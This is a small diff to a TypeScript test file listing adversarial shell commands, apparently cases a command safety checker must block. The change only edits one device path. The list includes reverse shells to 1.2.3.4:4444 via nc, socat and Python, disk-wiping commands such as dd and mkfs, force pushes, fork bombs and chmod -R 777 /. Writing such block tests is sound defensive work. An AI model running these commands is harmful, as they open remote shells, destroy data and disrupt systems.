@@ -96,7 +96,7 @@ export const CASES: AdversarialCase[] = [
     "nc -e /bin/sh 1.2.3.4 4444", "socat exec:sh tcp:x:1",
     "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",4444));os.dup2(s.fileno(),0);subprocess.call([\"sh\"])'",
     "crontab -r", "git push --force origin main", "git push origin +main",
-    "git push --mirror", "git push -f", "git push origin :main", "mke2fs /dev/sda1", "mkfs.ext4 /dev/x", "sgdisk -Z /dev/sda",
+    "git push --mirror", "git push -f", "git push origin :main", "mke2fs /dev/sda1", "mkfs.ext4 /dev/xvdb", "sgdisk -Z /dev/sda",
     "lvremove vg/lv", "vgremove vg", "pvremove /dev/sda", "zpool destroy tank", "dd if=/dev/zero of=/dev/sda", ":(){ :|:& };:",
     "bomb(){ bomb|bomb& };bomb", "perl -e 'fork while 1'",
     "chmod -R 777 /",
